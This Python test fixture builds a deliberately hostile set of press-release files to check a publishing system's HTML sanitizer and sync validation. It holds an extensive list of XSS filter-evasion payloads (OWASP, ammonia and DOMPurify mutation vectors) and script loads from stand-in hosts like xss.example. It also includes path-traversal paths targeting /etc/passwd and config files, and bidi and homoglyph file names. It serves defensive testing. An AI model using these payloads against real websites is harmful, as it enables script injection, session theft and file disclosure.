"""A hostile office: XSS filter-evasion vectors in bodies, in every front-matter text
field, in link and image URLs, in the curation headline; svg/math namespace tricks;
bidi controls and homoglyphs in text and in file names.

Every payload, if it ever ran, sets `window.__pwned` (the canary the browser test
reads); a payload that can only run in another origin (a `data:` document) tries
`top.__pwned` and falls back to alert(), which the browser test also catches.

Sources of the vectors:
- the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), written
  out here with the canary in place of alert();
- ammonia's own tests (rust-ammonia/ammonia, src/lib.rs `mod test`: remove_script,
  remove_unsafe_link, remove_js_link, remove_entity_link, object_data, ns_svg,
  ns_mathml, clean_content_tags, ...), the library nh3 wraps;
- mutation-XSS bypasses published against DOMPurify (namespace confusion);
- Markdown-specific ones: autolinks, reference-style links, image URLs.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

from tests.conftest import make_png

CANARY = "window.__pwned=1"
OTHER_ORIGIN = "try{top.__pwned=1}catch(e){alert(1)}"  # data: documents are opaque origins


def dec(text: str) -> str:
    """`&#106;&#97;...`: decimal character references."""
    return "".join(f"&#{ord(c)};" for c in text)


def dec_padded(text: str) -> str:
    """`&#0000106&#0000097...`: zero-padded decimal, no semicolons (OWASP)."""
    return "".join(f"&#{ord(c):07d}" for c in text)


def hex_bare(text: str) -> str:
    """`&#x6A&#x61...`: hex, no semicolons (OWASP, ammonia's remove_entity_link)."""
    return "".join(f"&#x{ord(c):X}" for c in text)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


JS = f"javascript:{CANARY}"
DATA_HTML = f"data:text/html;base64,{b64(f'<script>{OTHER_ORIGIN}</script>')}"
SVG_DOC = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="' + OTHER_ORIGIN + '">'
    f"<script>{OTHER_ORIGIN}</script></svg>"
)
DATA_SVG = f"data:image/svg+xml;base64,{b64(SVG_DOC)}"
ATTRIBUTE_BREAKOUT = f'assets/foto.png" onerror="{CANARY}'
MARKUP_IN_REFUSAL = f"<img src=x onerror={CANARY}>"

# OWASP XSS Filter Evasion Cheat Sheet, in its order.
OWASP = [
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    f"javascript:/*--></title></style></textarea></script></xmp>"
    f"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{CANARY}//'>",
    f'<IMG SRC="javascript:{CANARY};">',
    f"<IMG SRC=javascript:{CANARY}>",
    f"<IMG SRC=JaVaScRiPt:{CANARY}>",
    "<IMG SRC=javascript:window.__pwned=&quot;XSS&quot;>",
    f"<IMG SRC=`javascript:{CANARY}`>",
    f'\\<a onmouseover="{CANARY}"\\>xxs link\\</a\\>',
    f"\\<a onmouseover={CANARY}\\>xxs link\\</a\\>",
    f'<IMG """><SCRIPT>{CANARY}</SCRIPT>"\\>',
    "<IMG SRC=javascript:window.__pwned=String.fromCharCode(49)>",
    f'<IMG SRC=# onmouseover="{CANARY}">',
    f'<IMG SRC= onmouseover="{CANARY}">',
    f'<IMG onmouseover="{CANARY}">',
    f'<IMG SRC=/ onerror="{CANARY}"></img>',
    f'<img src=x onerror="{dec_padded(JS)}">',
    f"<IMG SRC={dec(JS)}>",
    f"<IMG SRC={dec_padded(JS)}>",
    f"<IMG SRC={hex_bare(JS)}>",
    f'<IMG SRC="jav\tascript:{CANARY};">',
    f'<IMG SRC="jav&#x09;ascript:{CANARY};">',
    f'<IMG SRC="jav&#x0A;ascript:{CANARY};">',
    f'<IMG SRC="jav&#x0D;ascript:{CANARY};">',
    f"<IMG SRC=java\0script:{CANARY}>",
    f'<IMG SRC=" &#14;  javascript:{CANARY};">',
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={CANARY}>",
    '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
    f"<<SCRIPT>{CANARY};//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    f'<IMG SRC="`<javascript:{CANARY}>`"',
    f'<IMG SRC="javascript:{CANARY}"',
    f'<INPUT TYPE="IMAGE" SRC="javascript:{CANARY};">',
    f'<BODY BACKGROUND="javascript:{CANARY}">',
    f'<IMG DYNSRC="javascript:{CANARY}">',
    f'<IMG LOWSRC="javascript:{CANARY}">',
    f'<STYLE>li {{list-style-image: url("javascript:{CANARY}");}}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    f'<IMG SRC="livescript:[{CANARY}]">',
    f"<svg/onload={CANARY}>",
    f"<BODY ONLOAD={CANARY}>",
    f'<BGSOUND SRC="javascript:{CANARY};">',
    f'<BR SIZE="&{{{CANARY}}}">',
    f'<LINK REL="stylesheet" HREF="javascript:{CANARY};">',
    '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    f"<STYLE>@im\\port'\\ja\\vasc\\ript:{CANARY}';</STYLE>",
    f'<IMG STYLE="xss:expr/*XSS*/ession({CANARY})">',
    f"exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression({CANARY})'>",
    f'<STYLE TYPE="text/javascript">{CANARY};</STYLE>',
    f'<STYLE>.XSS{{background-image:url("javascript:{CANARY}");}}</STYLE><A CLASS=XSS></A>',
    f'<STYLE type="text/css">BODY{{background:url("javascript:{CANARY}")}}</STYLE>',
    f'<XSS STYLE="xss:expression({CANARY})">',
    '<XSS STYLE="behavior: url(xss.htc);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{CANARY};">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url={DATA_HTML}">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:{CANARY};">',
    f'<IFRAME SRC="javascript:{CANARY};"></IFRAME>',
    f'<IFRAME SRC=# onmouseover="{CANARY}"></IFRAME>',
    f'<FRAMESET><FRAME SRC="javascript:{CANARY};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{CANARY}">',
    f'<TABLE><TD BACKGROUND="javascript:{CANARY}">',
    f'<DIV STYLE="background-image: url(javascript:{CANARY})">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0077\\0069\\006e\\0064\\006f\\0077\\002e\\005f"
    "\\005f\\0070\\0077\\006e\\0065\\0064\\003d\\0031'\\0029\">",
    f'<DIV STYLE="background-image: url(&#1;javascript:{CANARY})">',
    f'<DIV STYLE="width: expression({CANARY});">',
    f"<!--[if gte IE 4]><SCRIPT>{CANARY};</SCRIPT><![endif]-->",
    f'<BASE HREF="javascript:{CANARY};//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="{DATA_SVG}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    f'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:{CANARY}"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<?import namespace="t" implementation="#default#time2">'
    f'<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>{CANARY}</SCRIPT>"></BODY></HTML>',
    '<SCRIPT SRC="http://xss.example/xss.jpg"></SCRIPT>',
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT "
    "SRC=http://xss.example/xss.js></SCRIPT>'\"-->",
    f"<? echo('<SCR)'; echo('IPT>{CANARY}</SCRIPT>'); ?>",
    f'<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>{CANARY}</SCRIPT>">',
    '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.example/xss.js"></SCRIPT>',
    f"<A HREF=\"javascript:document.location='{JS}'\">XSS</A>",
    # HTML5 additions of the same cheat sheet family (events that fire by themselves).
    f"<details open ontoggle={CANARY}>x</details>",
    f"<video><source onerror={CANARY}></video>",
    f"<audio src=x onerror={CANARY}>",
    f"<input autofocus onfocus={CANARY}>",
    f"<select autofocus onfocus={CANARY}></select>",
    f"<marquee onstart={CANARY}>x</marquee>",
    f'<form><button formaction="javascript:{CANARY}">kirim</button></form>',
    f'<form action="javascript:{CANARY}"><input type=submit></form>',
    f'<isindex type=image src=1 onerror="{CANARY}">',
    f'<object data="{DATA_HTML}"></object>',
    f'<iframe srcdoc="&lt;script&gt;{OTHER_ORIGIN}&lt;/script&gt;"></iframe>',
    f'<a href="{DATA_HTML}">data</a>',
    f"<img src=x:{CANARY} onerror=eval(src.slice(2))>",
]
# ammonia's tests (src/lib.rs), with the canary for evil()/alert().
AMMONIA = [
    f"an <script>{CANARY}</script> example",
    f'an <a onclick="{CANARY}" href="http://www.google.com">evil</a> example',
    f'an <a href="javascript:{CANARY}">evil</a> example',
    "<b>AWESOME!",
    '<a href="\\\\"https://example.com\\\\"">test</a>',
    f'<span data="javascript:{CANARY}">Test</span><object data="javascript:{CANARY}"></object>M',
    "<b title='\"'>contents</b>",
    f'<a href="{hex_bare(JS)}">Click me!</a>',
    "<bad><evil>a</evil>b</bad>",
    f'<script type="text/javascript"><a href="javascript:{CANARY}">Hello!</a></script>',
    f"<em>This is</em><script><a>{CANARY}</a></script><p>still here!</p>",
    f'<svg><iframe><a title="</iframe><img src onerror={CANARY}>">test',
    "<svg><iframe>remove me</iframe></svg><iframe>keep me</iframe>",
    "<svg><a>remove me</a></svg><iframe>keep me</iframe>",
    "<mglyph></mglyph>",
    "<math><mtext><div><mglyph>",
    "<math><mtext><mglyph>",
    f"<b><img src='' onerror={CANARY}>I'm not trying to XSS you</b>",
    "<!-- comments will be stripped -->This is an Ammonia example.",
    "Some <style></style>HTML here",
    "1 < 2 dan Vec::<u8>::new() dan did you really believe me? <g>",
]
# Namespace confusion and mutation XSS (DOMPurify advisories), noscript/template/xmp.
MUTATION = [
    f"<svg><script>{CANARY}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}></style></mglyph>",
    f'<math href="javascript:{CANARY}">x</math>',
    f'<svg><a xlink:href="javascript:{CANARY}"><text x=20 y=20>klik</text></a></svg>',
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    f'<svg><set attributeName="href" to="javascript:{CANARY}"/></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{CANARY}">x</maction></math>',
    f"<svg><style><img src=x onerror={CANARY}></style></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CANARY}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CANARY}>",
    f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={CANARY} src=1>">',
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
    f"<template><img src=x onerror={CANARY}></template>",
    f'<xmp><p title="</xmp><img src=x onerror={CANARY}>"></xmp>',
    f'<noembed><p title="</noembed><img src=x onerror={CANARY}>"></noembed>',
    f'<noframes><p title="</noframes><img src=x onerror={CANARY}>"></noframes>',
    f"<textarea><script>{CANARY}</script></textarea>",
    f"<!--<img src=x onerror={CANARY}>-->",
    f"<!--><img src=x onerror={CANARY}>-->",
    f"<title><img src=x onerror={CANARY}></title>",
    f"<plaintext><img src=x onerror={CANARY}>",
]
# Markdown's own ways to make links and images.
MARKDOWN = [
    f"[klik]({JS})",
    f"[klik](JAVASCRIPT:{CANARY})",
    f"[klik](&#x6A;avascript:{CANARY})",
    f"[klik](javascript&colon;{CANARY})",
    f"[klik](javascript&#58;{CANARY})",
    f"[klik](jav&#x09;ascript:{CANARY})",
    f"[klik](<javascript:{CANARY}>)",
    f"[klik]( {JS} )",
    f'[klik]({JS} "judul")',
    f'[klik](https://example.go.id "x\\" onmouseover=\\"{CANARY}")',
    f"[klik]({DATA_HTML})",
    "[klik](vbscript:msgbox(1))",
    f"<{JS}>",
    f"<JAVASCRIPT:{CANARY}>",
    f"<{JS}@x.id>",
    f"[klik][1]\n\n[1]: {JS}",
    f'[klik][a]\n\n[a]: <javascript:{CANARY}> "judul"',
    f"[klik]\n\n[klik]: JaVaScRiPt:{CANARY}",
    f"![x]({JS})",
    f"![x]({DATA_SVG})",
    "![x](vbscript:msgbox(1))",
    f"![x]({dec(JS)})",
    f"![x](&#x6A;avascript:{CANARY})",
    f"![x][g]\n\n[g]: {JS}",
    f"[![x]({JS})]({JS})",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="window.__pwned=1](assets/foto.png)',
    "![x](assets/../../../../etc/passwd)",
    "![x](assets/..%2f..%2fx.png)",
    # Past the asset rewrite, straight at the build server's files (or a FIFO to hang it).
    '<img src="../../aset/../../../../../../../etc/hostname" alt="x">',
    '<img src="../../aset/%2e%2e/%2e%2e/%2e%2e/offices.yml">',
    "![x](../../aset/../../../sync/kutai-timur.json)",
    '<a href="../../../../kutai-timur.json">relatif</a>',
    f'<a href="  javascript:{CANARY}">spasi</a>',
    f'<a href="java\tscript:{CANARY}">tab</a>',
    f'<a href="javascript&#x3A;{CANARY}">titik dua</a>',
    f'<div markdown="1">[klik]({JS})</div>',
    f"| kolom |\n|---|\n| <script>{CANARY}</script> [x]({JS}) |",
    f"Judul <script>{CANARY}</script>\n=====",
    f"`<script>{CANARY}</script>` dan ```\n<script>{CANARY}</script>\n```",
    f"    <script>{CANARY}</script>",
    f"&lt;script&gt;{CANARY}&lt;/script&gt; &#60;img src=x onerror={CANARY}&#62;",
    f"Set.constructor`{CANARY}```",
]
BODY_VECTORS = OWASP + AMMONIA + MUTATION + MARKDOWN

# Front matter is text: these must come out as visible characters, never markup.
# Each fits every text field (tags take 60 characters at most).
TEXT_VECTORS = [
    f"<script>{CANARY}</script>",
    f'"><img src=x onerror={CANARY}>',
    f"'><svg onload={CANARY}>",
    f"</title><script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    "{{ 7*7 }} {% raw %}",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    f"]]><script>{CANARY}</script>",
    JS,
    f'\\";{CANARY};//',
    f"<!--<script>{CANARY}</script>-->",
    f"&#60;script&#62;{CANARY}&#60;/script&#62;",
    f"<a href={JS}>x</a>",
    "x\u2028y\u2029</script>",
    f"<style>*{{x:expression({CANARY})}}</style>",
    f'"onmouseover="{CANARY}',
    f"' onfocus='{CANARY}' autofocus '",
    f"<iframe src={JS}>",
]
# Phone numbers take 40 characters.
SHORT_VECTORS = ["0812 <b>x</b>", f'"><svg onload={CANARY}>', JS, f'0812" onclick="{CANARY}']
# Valid e-mail addresses by the schema's rule, hostile all the same.
EMAIL_VECTORS = [
    f"{JS}//@evil.id",
    "x&quot;onmouseover=window.__pwned=1@x.id",
    "humas@kutaitimurkab.go.id",
]
HOMOGLYPH_TITLE = "Pеngumuman Реsmi"  # Cyrillic е and Р: still text
BIDI = "\u202e"
BIDI_TITLE = f"Rilis {BIDI}aksip\u202c resmi"  # bidi override: refused

HEADLINE_RELEASES = [1, 2, 3, 5, 8, 13]  # curated, each with its own headline vector
DECLINED_RELEASES = [4, 6]  # declined by the national desk, each with a note vector
# The office's name in the registry, shown on the desk (a heading there is Markdown).
OFFICE_NAME = f"Kantor [x](javascript:{CANARY}) <img src=x onerror={CANARY}> *jahat*"


def quoted(text: str) -> str:
    """A YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# The office's officers, each named by a text vector, credited on every release: the
# central newsroom enables bylines, so every release page prints two of them.
OFFICER_NIP = "199001012015012{:03d}"


def office_yml(office: str = "kutai-timur") -> str:
    people = "".join(
        f"  - {{id: p{i}, name: {quoted(name)}, nip: {quoted(OFFICER_NIP.format(i + 1))}, "
        f"position: {quoted(name)}}}\n"
        for i, name in enumerate(TEXT_VECTORS)
    )
    return (
        f'id: {office}\nname: Kantor {office}\nlevel: kabupaten\nprovince: "64"\n'
        f"officers:\n{people}"
    )


def release_fields(n: int, text: str) -> dict[str, str]:
    """Front-matter lines (YAML values, written as is) with `text` in every text field."""
    q = quoted(text)
    people = len(TEXT_VECTORS)
    category = "klarifikasi" if n % 3 == 0 else "berita"
    fields = {
        "title": quoted(f"Rilis {n} {text}"),
        "date": f"2026-11-{1 + n % 20:02d} 10:00",
        "category": category,
        "summary": q,
        "tags": f"[{q}, banjir]",
        "regions": f"[{q}]",
        "image": f"{{src: assets/foto.png, alt: {q}}}",
        "attachments": f"[{{title: {q}, src: assets/dokumen.pdf}}]",
        "contact": (
            f"{{name: {q}, phone: {quoted(SHORT_VECTORS[n % len(SHORT_VECTORS)])}, "
            f"email: {quoted(EMAIL_VECTORS[n % len(EMAIL_VECTORS)])}, address: {q}}}"
        ),
        "updates": f'[{{date: "2026-11-21 09:00", note: {q}}}]',
        "propose_national": "true",
        "credits": f"{{penulis: [p{n % people}], foto: [p{(n + 1) % people}]}}",
    }
    if category == "klarifikasi":
        fields["claim"] = f"{{text: {q}, verdict: hoaks, appeared_in: [{q}]}}"
    if n % 4 == 1:
        del fields["summary"]  # the summary comes from the body's first paragraph
    if n % 10 == 7:
        fields["status"] = "withdrawn"
        fields["withdrawn_reason"] = q
    return fields


def release(n: int, body: str, text: str, **overrides: str | None) -> str:
    fields = release_fields(n, text)
    for key, value in overrides.items():
        if value is None:
            fields.pop(key, None)
        else:
            fields[key] = value
    front = "".join(f"{key}: {value}\n" for key, value in fields.items())
    first = body if n % 4 == 1 else f"Paragraf pembuka rilis {n}."
    rest = "" if n % 4 == 1 else f"\n\n{body}"
    return f"---\n{front}---\n{first}{rest}\n\nParagraf penutup rilis {n}.\n"


def vector_slug(n: int) -> str:
    return f"rilis-jahat-{n:03d}"


# --- releases the sync must refuse, each for one reason --------------------------------------

# File names: homoglyphs, bidi and zero-width characters, upper case, spaces, dots.
BAD_NAMES = [
    "rilis-\u0430man.md",  # Cyrillic а
    "rilis-\u0456ni.md",  # Cyrillic і
    "rilis-\uff41.md",  # fullwidth a (NFKD would fold it to "a")
    f"rilis-{BIDI}gnp.md",  # right-to-left override: reads "rilis-png.md"-ish
    "rilis\u200b-nol.md",  # zero-width space
    "Rilis-Besar.md",
    "rilis jahat.md",
    "rilis..jahat.md",
    "..rilis.md",
]
# Front-matter values: bidi controls in every other text field, hostile asset paths.
Override = Callable[[int], dict[str, str]]
BAD_FIELDS: dict[str, tuple[str, Override]] = {
    "bidi-judul": ("title", lambda n: {"title": quoted(BIDI_TITLE)}),
    "bidi-ringkasan": ("summary", lambda n: {"summary": quoted(f"ringkasan {BIDI}x")}),
    "bidi-tag": ("tags", lambda n: {"tags": f"[banjir, {quoted(f'ta{BIDI}g')}]"}),
    "bidi-wilayah": ("regions", lambda n: {"regions": f"[{quoted(f'Sangatta {BIDI}')}]"}),
    "bidi-kontak-nama": (
        "contact.name",
        lambda n: {"contact": f"{{name: {quoted(f'Humas {BIDI}x')}}}"},
    ),
    "bidi-kontak-telepon": (
        "contact.phone",
        lambda n: {"contact": f"{{phone: {quoted(f'0812{BIDI}99')}}}"},
    ),
    "bidi-kontak-alamat": (
        "contact.address",
        lambda n: {"contact": f"{{address: {quoted(f'Jl. {BIDI}Merdeka')}}}"},
    ),
    "bidi-alasan-tarik": (
        "withdrawn_reason",
        lambda n: {"status": "withdrawn", "withdrawn_reason": quoted(f"salah {BIDI}tulis")},
    ),
    "bidi-lampiran": (
        "attachments[1].title",
        lambda n: {
            "attachments": f"[{{title: {quoted(f'Lampiran {BIDI}')}, src: assets/dokumen.pdf}}]"
        },
    ),
    "bidi-alt": (
        "image.alt",
        lambda n: {"image": f"{{src: assets/foto.png, alt: {quoted(f'foto {BIDI}')}}}"},
    ),
    "bidi-catatan": (
        "updates[1].note",
        lambda n: {"updates": f'[{{date: "2026-11-21 09:00", note: {quoted(f"ralat {BIDI}")}}}]'},
    ),
    "gambar-javascript": ("image.src", lambda n: {"image": f"{{src: {quoted(JS)}, alt: x}}"}),
    "gambar-atribut": (
        "image.src",
        lambda n: {"image": f"{{src: {quoted(ATTRIBUTE_BREAKOUT)}, alt: x}}"},
    ),
    # Refused, and its value quoted in the refusal the desk shows (and indexes for search).
    "gambar-markah": (
        "image.src",
        lambda n: {"image": f"{{src: {quoted(MARKUP_IN_REFUSAL)}, alt: x}}"},
    ),
    "gambar-data": ("image.src", lambda n: {"image": f"{{src: {quoted(DATA_SVG)}, alt: x}}"}),
    "gambar-keluar": (
        "image.src",
        lambda n: {"image": "{src: assets/../../../offices.yml, alt: x}"},
    ),
    "gambar-luar": (
        "image.src",
        lambda n: {"image": "{src: 'https://evil.example/x.png', alt: x}"},
    ),
    "lampiran-javascript": (
        "attachments[1].src",
        lambda n: {"attachments": f"[{{title: x, src: {quoted(JS)}}}]"},
    ),
    "lampiran-vbscript": (
        "attachments[1].src",
        lambda n: {"attachments": "[{title: x, src: 'vbscript:msgbox(1)'}]"},
    ),
    "lampiran-keluar": (
        "attachments[1].src",
        lambda n: {"attachments": "[{title: x, src: assets/../../sync/kutai-timur.json}]"},
    ),
}


def hostile_files() -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {
        "office.yml": office_yml(),
        "assets/foto.png": make_png(16, 9),
        "assets/dokumen.pdf": b"%PDF-1.4\n%%EOF\n",
    }
    for n, body in enumerate(BODY_VECTORS):
        text = TEXT_VECTORS[n % len(TEXT_VECTORS)]
        files[f"releases/2026/{vector_slug(n)}.md"] = release(n, body, text)
    files["releases/2026/homoglif.md"] = release(
        900, "Isi.", "x", title=quoted(HOMOGLYPH_TITLE), status=None, withdrawn_reason=None
    )
    for index, name in enumerate(BAD_NAMES):
        files[f"releases/2026/{name}"] = release(910 + index, "Isi.", "x")
    for index, (slug, (_, override)) in enumerate(sorted(BAD_FIELDS.items())):
        n = 950 + index
        fields = override(n)
        fields.setdefault("status", "published")
        if fields["status"] != "withdrawn":
            fields["withdrawn_reason"] = None  # type: ignore[assignment]
        files[f"releases/2026/{slug}.md"] = release(n, "Isi.", "x", **fields)
    return files


def accepted_ids(office: str = "kutai-timur") -> set[str]:
    """Every release the sync must keep."""
    ids = {f"{office}/2026/{vector_slug(n)}" for n in range(len(BODY_VECTORS))}
    return ids | {f"{office}/2026/homoglif"}


def refused_files() -> dict[str, str]:
    """`releases/2026/<name>` -> the field its refusal must name."""
    refused = {f"releases/2026/{name}": "slug" for name in BAD_NAMES}
    refused |= {f"releases/2026/{slug}.md": field for slug, (field, _) in BAD_FIELDS.items()}
    return refused


def write_tree(root: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
